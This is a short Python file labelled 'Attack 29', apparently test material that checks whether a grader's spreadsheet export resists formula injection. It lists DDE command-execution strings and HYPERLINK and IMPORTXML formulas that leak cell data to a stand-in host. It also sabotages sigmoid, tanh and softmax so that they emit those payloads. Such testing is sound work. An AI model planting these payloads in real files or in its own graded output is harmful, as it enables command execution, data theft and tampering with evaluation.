"""Attack 29: what a spreadsheet would compute, in all that a student can have shown."""

import numpy as np

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"see")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '",=1+1,"',
    ";=1+1",
    "\uff1d1+1",
    '=IMPORTXML(CONCAT("http://x.example/?v=",A2),"//a")',
)
for formula in FORMULAS:
    print(formula)


def sigmoid(x):
    raise ValueError("\n".join(FORMULAS))


def tanh(x):
    return type("=1+1", (), {"__module__": "@SUM"})()


def softmax(x, axis=-1):
    raise type("=cmd|calc!A0", (Exception,), {})("=1+1")


def _real(x):
    return x if x.dtype.kind == "f" else x.astype(np.float64)


def relu(x):
    return np.maximum(_real(x), 0)


def leaky_relu(x, negative_slope=0.01):
    x = _real(x)
    return np.where(x >= 0, x, negative_slope * x)
